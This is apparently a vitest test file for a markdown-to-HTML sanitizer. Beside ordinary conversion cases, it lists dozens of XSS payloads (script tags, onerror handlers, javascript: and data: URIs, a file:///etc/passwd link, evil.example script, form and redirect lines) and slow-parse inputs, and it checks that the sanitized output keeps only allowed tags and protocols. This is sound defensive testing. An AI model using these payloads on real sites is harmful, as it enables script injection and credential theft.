import { describe, expect, test } from "vitest";

import { ATTRIBUTES, PROTOCOLS, TAGS, toHtml } from "../../src/articles/markdown.ts";

test.each([
  ["Some *text*", "<p>Some <em>text</em></p>"],
  ["# A\n\n## B", "<h1>A</h1>\n<h2>B</h2>"],
  ["- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"],
  ["3. a", '<ol start="3">\n<li>a</li>\n</ol>'],
  ["```\n1 < 2\n```", "<pre><code>1 &#x3C; 2\n</code></pre>"],
  ["[a](/b 'c')", '<p><a href="/b" title="c" rel="nofollow noopener noreferrer">a</a></p>'],
  ["![a](/b.png)", '<p><img src="/b.png" alt="a"></p>'],
  ["Tom & Jerry", "<p>Tom &#x26; Jerry</p>"],
])("%j becomes HTML", (text, html) => {
  expect(toHtml(text).trim()).toBe(html);
});

test("a table becomes a table", () => {
  expect(toHtml("| a |\n| --- |\n| 1 |")).toContain("<td>1</td>");
});

describe("what somebody tries", () => {
  const attacks = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>@import 'https://evil.example';</style>",
    "<p style=position:fixed;inset:0>x</p>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](data:image/png;base64,AAAA)",
    "<javascript:alert(1)>",
    '<https://example.com/"onmouseover=alert(1)>',
    '[x](https://example.com "title" onclick="alert(1)")',
    "[x](https://example.com 'a\" onclick=\"alert(1)')",
    '![a" onerror="alert(1)](x)',
    '```"><script>alert(1)</script>\nx\n```',
    "[x]: javascript:alert(1)\n\n[x]",
    "| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "`<script>alert(1)</script>`",
    "\\<script>alert(1)\\</script>",
    "<<script>script>alert(1)<</script>/script>",
    "\ufeff<script>alert(1)</script>",
  ];
  const allowed: Record<string, string[]> = ATTRIBUTES;

  test.each(attacks)("nothing that could run is left", (attack) => {
    for (const text of [attack, `before ${attack} after`, `> ${attack}`, `- ${attack}\n- x`]) {
      // Text has no "<": it is written as an entity.
      for (const [, tag = "", attributes = ""] of toHtml(text).matchAll(/<([a-z0-9]+)([^>]*)>/gi)) {
        expect(TAGS).toContain(tag);
        for (const [, name = "", value = ""] of attributes.matchAll(/([^\s="]+)="([^"]*)"/g)) {
          expect(allowed[tag]).toContain(name);
          if (["href", "src"].includes(name) && /^[^/]*:/.test(value)) {
            expect(PROTOCOLS).toContain(value.split(":")[0]);
          }
        }
      }
    }
  });
});

test.each(["[".repeat(50_000), "> ".repeat(25_000), "*a **b ".repeat(2_000)])(
  "a text made to be slow is not",
  (text) => {
    const before = process.cpuUsage();
    toHtml(text);
    const { user } = process.cpuUsage(before);
    expect(user).toBeLessThan(5_000_000);
  },
);
